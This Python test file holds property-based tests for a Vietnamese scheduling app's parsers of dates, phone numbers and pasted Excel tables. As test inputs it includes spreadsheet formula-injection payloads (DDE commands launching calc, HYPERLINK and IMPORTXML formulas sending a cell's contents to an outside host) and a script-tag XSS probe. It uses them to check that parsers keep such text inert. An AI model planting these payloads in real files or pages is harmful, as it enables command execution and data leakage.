"""Properties of the parsers that read what people type and paste: dates, phone numbers, and
the import of schedules, run-sheets and invitee lists.

Whatever comes in (any Unicode, control characters, very long text, formulas) they give a value
or their own error with a short message, never another exception; every written form of a
value reads back to it; and no row of a table is dropped without a word.
"""

from __future__ import annotations

import datetime as dt
import re
import unicodedata

import pytest
from flask_babel import force_locale
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from app.invitations.importing import paste_invitees
from app.invitations.services import InvitationError, format_phone, normalise_phone
from app.schedule.importing import ImportFileError, paste_runsheet, paste_schedule
from app.schedule.records import cell_text
from app.schedule.tables import read_pasted
from app.schedule.timeparse import ParseError, parse_date, parse_time, parse_time_range

PROPERTY = settings(deadline=None, max_examples=150, suppress_health_check=[HealthCheck.too_slow])
#: Table properties build and parse a whole table per example.
TABLE = settings(
    deadline=None,
    max_examples=60,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

WEEK = {
    "default_year": 2024,
    "week_start": dt.date(2024, 10, 1),
    "week_end": dt.date(2024, 10, 7),
}
#: Messages quote what was typed, cut to 40 characters: never a whole pasted page.
LONGEST_MESSAGE = 300

FORMULAS = [
    "=CMD|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
    "=1+1",
]

#: Any text at all: every Unicode category, control characters included.
any_text = st.text(max_size=200)
#: Text as a cell may hold it once read: no lone surrogates (no file or form carries them).
cell_chars = st.characters(blacklist_categories=("Cs",))
hostile_text = st.one_of(
    st.text(cell_chars, max_size=80),
    st.sampled_from(FORMULAS),
    st.just("Đ" * 6000),
    st.just("<script>alert(1)</script>"),
    st.just("\u202eRTL override \u200b zero width \ufeff BOM"),
    st.just("مرحبا 你好 Ελληνικά ☃ 🙂"),
    st.text(st.characters(min_codepoint=0, max_codepoint=0x1F), max_size=10),
)
#: Text that reads back exactly: no control characters, no line breaks, no tabs, NFC, trimmed.
plain_text = (
    st.text(st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp")), min_size=1, max_size=60)
    .map(lambda s: unicodedata.normalize("NFC", s).strip())
    .filter(bool)
)


@pytest.fixture(autouse=True)
def english(app):
    """Messages are lazy: read them in English, as a request would."""
    with app.test_request_context(), force_locale("en"):
        yield


def _short(message) -> None:
    text = str(message)
    assert text and len(text) <= LONGEST_MESSAGE, text[:400]


# --- dates --------------------------------------------------------------------------------

_WRITTEN_DATES = [
    "{d}/{m}/{y}",
    "{dd}/{mm}/{y}",
    "{d}.{m}.{y}",
    "{d}-{m}-{y}",
    " {dd} / {mm} / {y} ",
    "ngày {dd}/{mm}/{y}",
    "Ngày {d} tháng {m} năm {y}",
    "ngày {dd} tháng {mm}, năm {y}",
    "NGAY {d} THANG {m} NAM {y}",
    "{y}-{mm}-{dd}",
]


@PROPERTY
@given(st.dates(), st.sampled_from(_WRITTEN_DATES), st.booleans())
def test_every_written_form_of_a_date_reads_back(date, form, decomposed):
    written = form.format(
        d=date.day, m=date.month, dd=f"{date.day:02d}", mm=f"{date.month:02d}", y=f"{date.year:04d}"
    )
    if decomposed:  # as Word on a Mac or some keyboards write "ngày"
        written = unicodedata.normalize("NFD", written)
    assert parse_date(written, default_year=1999) == date


@PROPERTY
@given(st.dates(min_value=dt.date(2000, 1, 1), max_value=dt.date(2099, 12, 31)))
def test_a_two_digit_year_is_this_century(date):
    assert parse_date(f"{date.day}/{date.month}/{date.year % 100:02d}", default_year=1) == date


@PROPERTY
@given(st.dates(), st.sampled_from(["{d}/{m}", "{dd}.{mm}", "ngày {d} tháng {m}"]))
def test_a_date_without_a_year_is_in_the_campaigns_year(date, form):
    written = form.format(d=date.day, m=date.month, dd=f"{date.day:02d}", mm=f"{date.month:02d}")
    assert parse_date(written, default_year=date.year) == date


@PROPERTY
@given(st.integers(2000, 2100), st.integers(1, 12), st.integers(29, 99))
def test_a_day_the_month_does_not_have_is_named_not_moved(year, month, day):
    try:
        real = dt.date(year, month, day)
    except ValueError:
        real = None
    written = f"{day}/{month}/{year}"
    if real is not None:
        assert parse_date(written, default_year=2024) == real
        return
    with pytest.raises(ParseError) as caught:
        parse_date(written, default_year=2024)
    _short(caught.value)


@PROPERTY
@given(
    st.one_of(
        any_text,
        hostile_text,
        st.integers(),
        st.floats(),
        st.none(),
        st.booleans(),
        st.binary(max_size=20),
        st.datetimes(),
        st.times(),
    )
)
def test_parse_date_gives_a_date_or_its_own_short_error(value):
    try:
        result = parse_date(value, default_year=2024)
    except ParseError as exc:
        _short(exc)
    else:
        assert isinstance(result, dt.date)


@PROPERTY
@given(st.one_of(any_text, hostile_text, st.floats(), st.integers(), st.none()))
def test_time_parsers_give_a_time_or_their_own_short_error(value):
    for parse in (parse_time, parse_time_range):
        try:
            parse(value)
        except ParseError as exc:
            _short(exc)


@PROPERTY
@given(st.times(), st.times(), st.sampled_from(["-", " - ", "–", " đến ", "~", " to "]))
def test_a_written_time_range_reads_back(start, end, separator):
    start, end = start.replace(second=0, microsecond=0), end.replace(second=0, microsecond=0)
    assume(start < end)
    written = f"{start.hour}h{start.minute:02d}{separator}{end.hour}h{end.minute:02d}"
    assert parse_time_range(written) == (start, end)


# --- phone numbers -------------------------------------------------------------------------

_MOBILE_PREFIXES = ["3", "5", "7", "8", "9"]


def _written_forms(national: str) -> list[str]:
    """A 10-digit number "0912345678" as people write it."""
    rest = national[1:]
    fullwidth = national.translate({ord(c): ord(c) + 0xFEE0 for c in "0123456789"})
    return [
        national,
        f"{national[:4]} {national[4:7]} {national[7:]}",
        f"{national[:4]}.{national[4:7]}.{national[7:]}",
        f"{national[:4]}-{national[4:7]}-{national[7:]}",
        f"({national[:3]}) {national[3:6]}-{national[6:]}",
        f"+84 {rest}",
        f"+84{rest}",
        f"84{rest}",
        f"  {national}\t",
        fullwidth,
    ]


@PROPERTY
@given(st.sampled_from(_MOBILE_PREFIXES), st.text("0123456789", min_size=8, max_size=8))
def test_every_written_form_of_a_number_is_the_same_number(prefix, digits):
    national = f"0{prefix}{digits}"
    for written in _written_forms(national):
        assert normalise_phone(written) == national, written
    assert normalise_phone(format_phone(national)) == national


@PROPERTY
@given(st.one_of(any_text, hostile_text, st.text("0123456789 +.-()", max_size=20)))
def test_a_phone_is_ten_or_eleven_ascii_digits_or_a_short_error(value):
    try:
        phone = normalise_phone(value)
    except InvitationError as exc:
        _short(exc)
        return
    assert phone == "" or re.fullmatch(r"0[0-9]{9,10}", phone), phone
    assert normalise_phone(phone) == phone  # normalising twice changes nothing


@PROPERTY
@given(
    st.sampled_from(["٠١٢٣٤٥٦٧٨٩", "०१२३४५६७८९", "০১২৩৪৫৬৭৮৯", "๐๑๒๓๔๕๖๗๘๙"]),
    st.text("0123456789", min_size=9, max_size=9),
)
def test_digits_of_other_scripts_are_not_a_phone_number(script, digits):
    foreign = digits.translate({ord(str(n)): script[n] for n in range(10)})
    with pytest.raises(InvitationError):
        normalise_phone("0" + foreign)


# --- tables pasted from Excel ----------------------------------------------------------------


def _excel_cell(text: str) -> str:
    """A cell as Excel copies it: quoted (inner quotes doubled) when it holds a tab, a line
    break or a quote."""
    if any(c in text for c in '\t\n\r"'):
        return '"' + text.replace('"', '""') + '"'
    return text


@TABLE
@given(
    st.lists(
        st.lists(
            st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\r")).map(
                lambda s: unicodedata.normalize("NFC", s)
            ),
            min_size=5,
            max_size=5,
        ),
        min_size=1,
        max_size=6,
    )
)
def test_rows_copied_from_excel_are_read_back_cell_for_cell(rows):
    header = ["TT", "Giờ", "Ngày", "Đơn vị", "Nội dung"]
    text = "\n".join("\t".join(_excel_cell(c) for c in row) for row in [header, *rows])
    read = read_pasted(text, kind="schedule")
    # Trailing blank lines may go; every other line is there as it was.
    assert read[: len(rows) + 1] == [header, *rows]
    assert all(all(not cell.strip() for cell in row) for row in read[len(rows) + 1 :])


def _schedule_rows(texts):
    rows = []
    for n, (unit, title, venue) in enumerate(texts, start=1):
        rows.append([str(n), "8h30", f"0{n % 7 + 1}/10/2024", unit, title, venue])
    return rows


def _pasted(rows) -> str:
    return "\n".join("\t".join(_excel_cell(str(c)) for c in row) for row in rows)


@TABLE
@given(st.lists(st.tuples(hostile_text, hostile_text, hostile_text), min_size=1, max_size=6))
def test_any_cell_text_in_a_schedule_gives_one_draft_per_row(texts):
    rows = [["TT", "Giờ", "Ngày", "Đơn vị", "Nội dung", "Địa điểm"], *_schedule_rows(texts)]
    drafts = paste_schedule(_pasted(rows), **WEEK)
    # Every row has its TT, time and date: none is merged into another, none is left out.
    assert [d.line for d in drafts] == list(range(2, len(rows) + 1))
    for draft, (unit, title, venue) in zip(drafts, texts, strict=True):
        assert (draft.unit_text, draft.title, draft.venue) == tuple(
            cell_text(text) for text in (unit, title, venue)
        )
        for value in (draft.unit_text, draft.title, draft.venue):
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", value)
        for problem in draft.problems:
            _short(problem.message)
        if not draft.title:
            assert not draft.ok  # an empty content is an error, shown on its row


@TABLE
@given(st.lists(plain_text | st.sampled_from(FORMULAS), min_size=1, max_size=6))
def test_text_and_formulas_are_kept_exactly_as_typed(titles):
    rows = [
        ["TT", "Giờ", "Ngày", "Đơn vị", "Nội dung"],
        *[[str(n), "8h30", "02/10/2024", "Phường Láng Hạ", t] for n, t in enumerate(titles, 1)],
    ]
    drafts = paste_schedule(_pasted(rows), **WEEK)
    assert [d.title for d in drafts] == titles


_LINE = re.compile(r"^Line (\d+) ")


@TABLE
@given(
    st.lists(
        st.lists(st.one_of(hostile_text, st.just(""), st.just("7h30"), st.just("3")), max_size=5),
        min_size=1,
        max_size=8,
    ),
    st.sampled_from(["schedule", "runsheet"]),
)
def test_no_row_of_a_table_is_dropped_without_a_word(rows, kind):
    """A row is a draft of its own, or the rest of the row above with a warning naming it,
    or blank (in the table's columns): nothing else happens to it."""
    header = (
        ["TT", "Giờ", "Ngày", "Đơn vị", "Nội dung"]
        if kind == "schedule"
        else ["STT", "Thời gian", "Nội dung", "Thực hiện", "Ghi chú"]
    )
    text = _pasted([header, *rows])
    try:
        drafts = paste_schedule(text, **WEEK) if kind == "schedule" else paste_runsheet(text)
    except ImportFileError as exc:
        _short(exc)
        return
    accounted = {draft.line for draft in drafts}
    for draft in drafts:
        for problem in draft.problems:
            _short(problem.message)
            match = _LINE.match(str(problem.message))
            if match:
                accounted.add(int(match.group(1)))
    columns = 5 if kind == "schedule" else 4  # a run-sheet's "Ghi chú" is not read
    for line, row in enumerate(rows, start=2):
        if any(cell_text(c) for c in row[:columns]):
            assert line in accounted, (line, row, [(d.line, d.problems) for d in drafts])


# --- invitee lists ---------------------------------------------------------------------------


@TABLE
@given(
    st.lists(
        st.tuples(
            plain_text,
            hostile_text,
            hostile_text,
            hostile_text,
            # "Thứ tự": digits that str.isdigit() takes and int() does not, among others.
            hostile_text | st.sampled_from(["²", "①", "٣", "12.", "0", "100001", "7"]),
        ),
        min_size=1,
        max_size=6,
    )
)
def test_any_invitee_cells_give_one_draft_per_person(people):
    header = ["Họ và tên", "Chức vụ", "Đơn vị", "Điện thoại", "Thứ tự"]
    rows = [[f"{n}. {name}", *rest] for n, (name, *rest) in enumerate(people, start=1)]
    drafts = paste_invitees(_pasted([header, *rows]))
    assert [d.line for d in drafts] == list(range(2, len(rows) + 2))
    for draft, (number, *_cells) in zip(drafts, rows, strict=True):
        assert draft.full_name == " ".join(cell_text(number).split())
        for problem in draft.problems:
            _short(problem.message)
        # A phone that is not one is an error on its row, kept as typed for the preview.
        assert draft.phone == "" or re.fullmatch(r"0[0-9]{9,10}", draft.phone) or not draft.ok
